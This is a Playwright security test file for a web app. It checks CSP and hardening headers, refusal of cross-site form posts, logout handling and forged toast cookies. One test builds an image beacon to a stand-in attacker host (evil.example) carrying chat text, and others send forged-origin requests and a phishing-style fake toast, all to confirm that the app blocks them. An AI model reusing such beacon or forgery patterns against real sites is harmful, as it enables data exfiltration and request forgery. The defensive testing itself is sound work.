import { expect, type Page, test } from "@playwright/test";
import { call, personalSpaceId, uniqueName } from "./chat-support";
import { registerByApi, registerByCode, uniqueEmail } from "./support";

/** What a page on another site sends when it posts a form or fetch() at us. */
const CROSS_SITE = { origin: "https://evil.example", "sec-fetch-site": "cross-site" };

/** A new account signed in on the page's context, through the API (the sign-up pages have specs of their own). */
async function signUp(page: Page) {
  await registerByApi(page.request, uniqueEmail("sec"), "Secure#Pass1");
}

async function spaceModelNames(page: Page, spaceId: number) {
  const models = await call<{ name: string }[]>(page, "/api/model/list", { spaceId });
  return models.map((m) => m.name);
}

test.describe("page headers", () => {
  test("every page carries a nonce CSP and the hardening headers, and React hydrates under it", async ({ page }) => {
    const violations: string[] = [];
    page.on("console", (msg) => {
      if (/Content Security Policy/i.test(msg.text())) violations.push(msg.text());
    });
    // Signing up needs the hydrated page (the code countdown), so it proves the CSP lets our scripts run.
    const login = await page.goto("/login");
    await registerByCode(page, uniqueEmail("sec"), "Secure#Pass1");
    const home = await page.goto("/");
    for (const res of [login, home]) {
      const headers = res!.headers();
      const csp = headers["content-security-policy"] ?? "";
      expect(csp).toMatch(/script-src 'self' 'nonce-[A-Za-z0-9+/=]{16,}'/);
      for (const directive of [
        "img-src 'self' data: blob:",
        "connect-src 'self'",
        "frame-ancestors 'none'",
        "base-uri 'self'",
        "form-action 'self'",
      ]) {
        expect(csp).toContain(directive);
      }
      expect(headers["x-frame-options"]).toBe("DENY");
      expect(headers["x-content-type-options"]).toBe("nosniff");
      expect(headers["referrer-policy"]).toBe("strict-origin-when-cross-origin");
    }
    const nonces = await page
      .locator("script:not([src])")
      .evaluateAll((els) => els.map((el) => (el as HTMLScriptElement).nonce));
    expect(nonces.length).toBeGreaterThan(0);
    for (const nonce of nonces) expect(nonce).not.toBe("");
    expect(violations).toEqual([]);
  });

  test("the page refuses to load an image from another host (no beacon)", async ({ page }) => {
    await page.goto("/login");
    const outcome = await page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          document.addEventListener("securitypolicyviolation", (e) => resolve(`refused by ${e.effectiveDirective}`));
          const img = new Image();
          img.onload = () => resolve("loaded");
          // A failed load without a violation means the request went out (and only the host was missing).
          img.onerror = () => setTimeout(() => resolve("requested"), 100);
          img.src = "https://evil.example/beacon.png?q=chat-text";
        }),
    );
    expect(outcome).toBe("refused by img-src");
  });
});

test.describe("requests from another site", () => {
  test("a cross-site POST to a resource route and to page actions is refused and changes nothing", async ({
    page,
    baseURL,
  }) => {
    await signUp(page);
    const spaceId = await personalSpaceId(page);
    const me = await call<{ nickName: string }>(page, "/api/user/getLoginInfo");
    const name = uniqueName("跨站模型");
    const modelForm = {
      intent: "save",
      spaceId: String(spaceId),
      done: "/",
      name,
      model: "m",
      type: "Chat",
      apiProtocol: "OpenAI",
      baseUrl: "https://models.example/v1",
      maxTokens: "4096",
      contextSize: "8192",
      functionCall: "Unsupported",
    };

    const refusals = [
      await page.request.post("/resources/space-models", { form: modelForm, headers: CROSS_SITE, maxRedirects: 0 }),
      await page.request.post("/profile", {
        form: { intent: "update-profile", nickName: "被改名", userName: "hijacked" },
        headers: { origin: "https://evil.example" },
        maxRedirects: 0,
      }),
      await page.request.post("/logout", {
        form: { intent: "logout" },
        headers: { "sec-fetch-site": "same-site" },
        maxRedirects: 0,
      }),
    ];
    for (const res of refusals) {
      expect(res.status()).toBe(403);
      expect(await res.text()).toContain("请求来源不被允许");
    }
    expect(await spaceModelNames(page, spaceId)).not.toContain(name);
    expect((await call<{ nickName: string }>(page, "/api/user/getLoginInfo")).nickName).toBe(me.nickName);

    // The same form from our own page goes through: the refusal was the origin, not the form.
    const own = { origin: new URL(baseURL!).origin, "sec-fetch-site": "same-origin" };
    const saved = await page.request.post("/resources/space-models", {
      form: modelForm,
      headers: own,
      maxRedirects: 0,
    });
    expect(saved.status()).toBe(302);
    expect(await spaceModelNames(page, spaceId)).toContain(name);
  });

  test("opening /logout (a GET, as a cross-site link would) only asks; the session stays", async ({ page }) => {
    await signUp(page);
    await page.goto("/logout");
    await expect(page.getByRole("button", { name: "退出登录" })).toBeVisible();
    await call(page, "/api/user/getLoginInfo");
    const res = await page.request.get("/api/user/logout");
    expect((await res.json()).code).toBe("4050");
    await call(page, "/api/user/getLoginInfo");
    await page.getByRole("button", { name: "退出登录" }).click();
    await expect(page).toHaveURL(/\/login/);
  });
});

test.describe("toast cookie", () => {
  test.use({ javaScriptEnabled: false });

  /** React Router's unsigned cookie encoding of a value: what anyone can write without our secret. */
  const forged = (value: unknown) => Buffer.from(JSON.stringify(value)).toString("base64");
  const hasBanner = (page: Page, text: string) => page.getByRole("status").filter({ hasText: text }).count();

  test("a forged toast is ignored; a genuine one still shows", async ({ page, context, baseURL }) => {
    const lie = { type: "error", message: "账号异常，请联系 evil.example 客服" };
    for (const value of [forged(lie), `${forged(lie)}.c2lnbmF0dXJl`]) {
      await context.addCookies([{ name: "toast", value, url: baseURL! }]);
      await page.goto("/login");
      await expect(page.getByRole("button", { name: "登录", exact: true })).toBeVisible();
      expect(await hasBanner(page, "evil.example")).toBe(0);
    }
    await signUp(page);
    // The profile form, saved unchanged, answers with a genuine (signed) toast.
    await page.goto("/profile");
    await page.getByRole("button", { name: "保存" }).click();
    await expect(page.getByRole("status").filter({ hasText: "个人资料已保存" })).toBeVisible();
  });
});
